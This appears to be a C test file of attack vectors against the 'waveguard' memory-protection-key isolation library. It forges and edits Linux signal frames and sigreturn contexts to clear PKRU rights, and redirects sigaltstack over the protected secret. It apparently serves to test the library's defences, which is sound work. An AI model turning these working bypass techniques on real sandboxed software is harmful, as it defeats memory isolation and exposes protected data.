/* SPDX-License-Identifier: Apache-2.0 */
/* The kernel writes and reads frames of signals, with PKRU in them. */
#include "attack.h"

#include <cpuid.h>
#include <setjmp.h>
#include <signal.h>
#include <ucontext.h>

#include <waveguard/waveguard.h>

static char stack[262144];
static volatile int pass;

/* What rt_sigreturn takes: the context, and the registers it points at. */
static struct {
	char room[64];
	ucontext_t context;
	char info[256];
} forged __attribute__((aligned(64)));
static char registers[65536] __attribute__((aligned(64)));

static uint32_t *rights(char *state) {
	unsigned size, offset, c, d;
	__cpuid_count(0xd, 9, size, offset, c, d);
	*(uint64_t *)(void *)(state + 512) |= 1 << 9;
	return (uint32_t *)(void *)(state + offset);
}

static bool handle(void (*handler)(int, siginfo_t *, void *)) {
	const stack_t other = {.ss_sp = stack, .ss_size = sizeof stack};
	struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_ONSTACK};
	return sigaltstack(&other, NULL) == 0 && sigaction(SIGTRAP, &action, NULL) == 0;
}

#define TRAP() __asm__ volatile("int3" : : : "memory")

static void edit(int signal, siginfo_t *info, void *context) {
	(void)signal, (void)info;
	*rights((char *)((ucontext_t *)context)->uc_mcontext.fpregs) = 0;
}

static bool by_frame(void) {
	if (!handle(edit))
		return false;
	TRAP();
	return load();
}

static void keep(int signal, siginfo_t *info, void *context) {
	(void)signal, (void)info;
	const ucontext_t *now = context;
	const char *state = (const char *)now->uc_mcontext.fpregs;
	uint32_t size = *(const uint32_t *)(const void *)(state + 468); /* extended_size of struct _fpx_sw_bytes */
	memcpy(&forged.context, now, 304 + sizeof(uint64_t));           /* the kernel's struct ucontext */
	memcpy(registers, state, size < sizeof registers ? size : sizeof registers);
	forged.context.uc_mcontext.fpregs = (void *)registers;
}

/* Returns from a signal that never came, to where the one did that was kept. */
static bool return_forged(void (*forge)(void)) {
	pass = 0;
	if (!handle(keep))
		return false;
	TRAP();
	if (++pass == 1) {
		forge();
		__asm__ volatile("mov %0, %%rsp\n mov $15, %%eax\n syscall" : : "r"(&forged.context) : "memory");
	}
	return load();
}

static void with_rights(void) { *rights(registers) = 0; }
static void without_extension(void) { memset(registers + 464, 0, 48); } /* the kernel then sees what FXSAVE wrote, and starts the rest anew */
static void without_registers(void) { forged.context.uc_mcontext.fpregs = NULL; }

static bool by_return(void) { return return_forged(with_rights); }
static bool by_old_frame(void) { return return_forged(without_extension); }
static bool by_bare_frame(void) { return return_forged(without_registers); }

static jmp_buf before_signal;

/* Goes back to where the signal came, from a handler that has no stack. The gate gives the thread its rights again. */
__attribute__((noinline, used)) static void escape(void) {
	(void)wg_status_of(WG_EPOCH);
	longjmp(before_signal, 1);
}

__attribute__((naked)) static void handle_without_stack(int signal) {
	__asm__ volatile("mov %0, %%rsp\n call %P1" : : "i"(stack + sizeof stack), "i"(escape), "D"(signal));
}

/* Has the kernel write the frame of a signal over the secret. */
static bool by_written_frame(void) {
	const stack_t there = {.ss_sp = (void *)secret, .ss_size = 2 * PAGE};
	const struct sigaction action = {.sa_handler = handle_without_stack, .sa_flags = SA_ONSTACK | SA_NODEFER};
	stack_t was;
	if (sigaltstack(&there, &was) != 0 || sigaction(SIGTRAP, &action, NULL) != 0)
		return false;
	if (setjmp(before_signal) == 0)
		TRAP();
	return sigaltstack(&was, NULL) == 0;
}

const struct vector signal_vectors[] = {
	{.name = "signal-frame", .attempt = by_frame},
	{.name = "sigreturn", .attempt = by_return},
	{.name = "sigreturn-fx", .attempt = by_old_frame},
	{.name = "sigreturn-bare", .attempt = by_bare_frame},
	{.name = "sigaltstack", .attempt = by_written_frame, .kind = DESTROYS},
	{0},
};
